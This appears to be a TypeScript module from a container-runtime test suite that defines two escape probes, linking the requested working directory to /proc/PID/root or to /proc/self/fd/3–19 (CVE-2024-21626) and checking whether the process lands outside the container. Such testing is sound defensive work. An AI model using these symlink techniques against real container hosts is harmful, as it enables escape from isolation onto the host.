/** A2: the working directory that is asked for is a magic link, which leads to the host. */
import { parseProbe } from '../../support/probe.ts';
import type { Attack, Observation } from './attack.ts';
import { bring, enterFor, firstLine } from './enter.ts';
import type { AttackTarget } from './targets.ts';
import type { Tool, Way } from './tools.ts';

const DESCRIPTORS = Array.from({ length: 17 }, (_, index) => `/proc/self/fd/${index + 3}`);

async function attack(
  tool: Tool,
  target: AttackTarget,
  way: Way,
  links: readonly string[],
): Promise<Observation> {
  const probe = bring(target, 'probe');
  let seen = '';
  for (const link of links) {
    target.do(`/bin/busybox rm -f /work; /bin/busybox ln -s ${link} /work`);
    const { how, said } = await enterFor(30_000, tool, target, { ...way, directory: '/work' }, [probe]);
    const cwd = parseProbe(said)?.cwd;
    if (cwd?.startsWith('(unreachable)'))
      return { succeeded: true, seen: `the working directory is outside: ${cwd}` };
    seen = cwd === undefined ? (/[^:]*$/.exec(firstLine(said))?.[0].trim() ?? '') || how : `it is ${cwd}`;
  }
  return { succeeded: false, seen };
}

function described(way: Way): string {
  const ids = way.uid === undefined ? [] : [`-S ${way.uid} -G ${way.uid}`];
  return [...(way.words ?? ['-a']), ...ids].join(' ');
}

/** A process of the host that is seen inside. */
export function directoryOfProcess(way: Way): Attack {
  return {
    name: `working directory, ${described(way)}: a link to /proc/PID/root`,
    sentence:
      'In a target that sees the processes of the host, the directory of `-W` is a link to /proc/PID/root of one of them.',
    run: (tool, target) => attack(tool, target, way, [`/proc/${process.pid}/root`]),
  };
}

/** A descriptor that the tool itself has open there (CVE-2024-21626). */
export function directoryOfDescriptor(way: Way): Attack {
  return {
    name: `working directory, ${described(way)}: a link to /proc/self/fd/N`,
    sentence:
      'The directory of `-W`, or `--cwd`, is a link to each of /proc/self/fd/3 to 19, which are what the tool has open (CVE-2024-21626).',
    run: (tool, target) => attack(tool, target, way, DESCRIPTORS),
  };
}
